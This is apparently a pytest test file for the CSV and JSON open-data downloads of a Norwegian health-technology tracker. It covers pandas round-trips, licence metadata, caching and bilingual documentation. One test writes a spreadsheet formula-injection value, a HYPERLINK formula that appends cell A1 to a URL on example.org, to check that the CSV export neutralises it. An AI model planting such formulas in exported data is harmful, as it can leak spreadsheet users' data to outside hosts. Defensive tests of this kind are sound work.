"""The open data (`/offentlig/data`): every dataset as CSV and JSON, read as the public would read
them — with pandas — on the demo as `make run` leaves it, on SQLite and PostgreSQL."""

from __future__ import annotations

import io
from typing import Any

import pandas as pd
import pytest
from markupsafe import escape

from tracker.exports import is_formula_like

# The published names: the addresses people link to and scripts download.
DATASETS = ("introduksjoner", "revurderingsdatoer", "endepunkter", "milepaeler", "leveranser",
            "revurderinger", "analyseplaner", "avtaler", "gruppeunntak", "tilgangsstatistikk",
            "komitevedtak")
SHAPE = ["dataset", "title", "description", "licence", "licence_url", "source", "fields",
         "items"]


@pytest.fixture
def demo(cli):  # type: ignore[no-untyped-def]
    """The demo as `make run` leaves it, copied from a database seeded once per worker."""
    return cli


def download(client: Any, name: str, fmt: str) -> Any:
    response = client.get(f"/offentlig/data/{name}.{fmt}")
    assert response.status_code == 200, (name, fmt, response.status_code)
    return response


def as_text(value: Any) -> str:
    """A JSON value as the CSV writes it."""
    return "" if value is None else str(value)


def review_date_rows(client: Any) -> pd.DataFrame:
    body = download(client, "revurderingsdatoer", "csv").data
    return pd.read_csv(io.BytesIO(body), dtype=str, keep_default_na=False)


def move_review_date(client: Any, introduction_id: int, new_date: str, reason: str) -> Any:
    url = f"/api/v1/introductions/{introduction_id}"
    version = client.get(url).json["version"]
    moved = client.patch(url, json={"review_date": new_date, "review_date_reason": reason,
                                    "version": version})
    assert moved.status_code == 200, moved.json
    return moved.json


@pytest.mark.parametrize("name", DATASETS)
def test_every_dataset_round_trips_through_pandas_as_csv_and_json(demo, anonymous, name):
    csv = download(anonymous, name, "csv")
    assert csv.mimetype == "text/csv"
    assert csv.headers["Content-Disposition"] == f'attachment; filename="{name}.csv"'
    assert not csv.data.startswith(b"\xef\xbb\xbf"), "UTF-8 without a byte-order mark"
    document = download(anonymous, name, "json").json
    assert list(document)[:6] == SHAPE[:6] and list(document)[-2:] == SHAPE[-2:]
    assert document["dataset"] == name and document["licence"] == "NLOD 2.0"
    assert document["licence_url"].startswith("https://data.norge.no/nlod/")
    assert document["title"]["nb"] and document["title"]["en"]
    columns = [f["name"] for f in document["fields"]]
    assert all(f["description"]["nb"] and f["description"]["en"] for f in document["fields"])

    items = document["items"]
    assert items, f"the demo has {name}"
    from_csv = pd.read_csv(io.BytesIO(csv.data), dtype=str, keep_default_na=False)
    from_json = pd.DataFrame(items)
    assert list(from_csv.columns) == columns == list(from_json.columns)
    assert len(from_csv) == len(from_json)
    for row, (in_csv, item) in enumerate(zip(from_csv.to_dict("records"), items, strict=True)):
        for column in columns:
            expected = as_text(item[column])
            if in_csv[column] != expected:  # only a formula-like text differs: neutralised
                assert is_formula_like(expected) and in_csv[column] == "'" + expected, (
                    column, row)

    # Read with pandas' own types, the numbers are numbers and the dates are dates.
    typed = pd.read_csv(io.BytesIO(csv.data))
    for spec in document["fields"]:
        values = typed[spec["name"]].dropna()
        if spec["type"] == "integer":
            assert pd.api.types.is_numeric_dtype(values), spec["name"]
            assert values.tolist() == [i[spec["name"]] for i in items
                                       if i[spec["name"]] is not None]
        if spec["type"] in ("date", "datetime") and len(values):
            assert pd.to_datetime(values, utc=True).notna().all(), spec["name"]


def test_the_json_is_the_same_file_in_either_language(demo, anonymous):
    norwegian = download(anonymous, "introduksjoner", "json").data
    english = anonymous.get("/offentlig/data/introduksjoner.json?lang=en")
    assert english.status_code == 200 and english.data == norwegian


def test_every_code_in_a_download_is_explained_in_its_documentation(demo, anonymous):
    for name in DATASETS:
        document = download(anonymous, name, "json").json
        for spec in document["fields"]:
            if spec["values"] is None:
                continue
            known = {v["code"] for v in spec["values"]}
            for item in document["items"]:
                value = item[spec["name"]]
                codes = value.split("; ") if value and spec["name"] == "grounds" else [value]
                assert all(c is None or c in known for c in codes), (name, spec["name"], value)


def test_the_demo_history_shows_a_review_date_set_then_moved_with_its_reason(demo, anonymous):
    rows = review_date_rows(anonymous)
    zolgensma = rows[rows["nye_metoder_id"] == "ID2020_916"]
    assert zolgensma[["old_date", "new_date"]].values.tolist() == [
        ["", "2027-12-31"], ["2027-12-31", "2028-06-30"]]
    moved = zolgensma.iloc[-1]
    assert "Muskelregisteret" in moved["reason"] and "(Syntetisk demoendring.)" in moved["reason"]
    assert moved["changed_at"] == "2025-10-20T12:00:00+00:00"


def test_the_committee_decisions_say_how_finely_they_are_listed(demo, anonymous):
    document = download(anonymous, "komitevedtak", "json").json
    assert document["level"] in {"method_and_diagnosis_group", "diagnosis_group", "method",
                                 "outcome", "none"}
    if document["level"] == "outcome":
        assert all(i["nye_metoder_id"] is None and i["diagnosis_group"] is None
                   for i in document["items"])


def test_a_text_that_looks_like_a_formula_is_not_one_in_the_csv(demo, client, anonymous):
    intro = client.get("/api/v1/introductions?limit=1").json["items"][0]
    formula = '=HYPERLINK("https://example.org/?"&A1,"Se her")'
    move_review_date(client, intro["id"], "2029-01-31", formula)
    rows = review_date_rows(anonymous)
    reasons = rows.loc[rows["new_date"] == "2029-01-31", "reason"].tolist()
    assert reasons == ["'" + formula]
    items = download(anonymous, "revurderingsdatoer", "json").json["items"]
    assert formula in [i["reason"] for i in items], "JSON carries the text as it was written"


@pytest.mark.parametrize("path", ["/offentlig/data/ukjent.csv", "/offentlig/data/ukjent.json",
                                  "/offentlig/data/introduksjoner.xlsx",
                                  "/offentlig/data/introduksjoner",
                                  "/offentlig/data/.csv"])
def test_an_unknown_dataset_or_format_is_not_found(anonymous, path):
    assert anonymous.get(path).status_code == 404


def test_downloads_are_kept_and_change_at_once_when_a_record_changes(demo, app, client,
                                                                    anonymous):
    store = app.extensions["tracker_answers"]
    first = download(anonymous, "revurderingsdatoer", "csv")
    hits = store.hits
    again = download(anonymous, "revurderingsdatoer", "csv")
    assert store.hits == hits + 1, "the second download came from the answer store"
    assert again.data == first.data
    assert again.headers["Content-Disposition"] == 'attachment; filename="revurderingsdatoer.csv"'
    assert again.headers["ETag"] == first.headers["ETag"]
    assert anonymous.get("/offentlig/data/revurderingsdatoer.csv",
                         headers={"If-None-Match": first.headers["ETag"]}).status_code == 304

    intro = client.get("/api/v1/introductions?limit=1").json["items"][0]
    move_review_date(client, intro["id"], "2029-02-28", "Registerdata forsinket (test).")
    changed = download(anonymous, "revurderingsdatoer", "csv")
    assert changed.data != first.data and changed.headers["ETag"] != first.headers["ETag"]
    assert "2029-02-28" in review_date_rows(anonymous)["new_date"].tolist()


@pytest.mark.parametrize("lang", ["nb", "en"])
def test_the_documentation_page_describes_every_dataset_in_the_readers_language(
        demo, anonymous, lang):
    page = anonymous.get(f"/offentlig/data?lang={lang}")
    assert page.status_code == 200 and page.mimetype == "text/html"
    html = page.get_data(as_text=True)
    assert f'<html lang="{lang}">' in html
    for name in DATASETS:
        document = download(anonymous, name, "json").json
        assert str(escape(document["title"][lang])) in html
        assert f'href="/offentlig/data/{name}.csv"' in html
        assert f'href="/offentlig/data/{name}.json"' in html
        for spec in document["fields"]:
            assert f'id="{name}-field-{spec["name"]}"' in html
            assert str(escape(spec["description"][lang])) in html
    assert 'href="https://data.norge.no/nlod/no/2.0"' in html
    feed = "/offentlig/nyheter.atom" + ("?lang=en" if lang == "en" else "")
    assert f"http://localhost{feed}" in html
    if lang == "nb":
        assert "kan være tom" in html and "heltall" in html and "may be empty" not in html
        assert "Listen vises nå på nivået" in html
    else:
        assert "may be empty" in html and "kan være tom" not in html
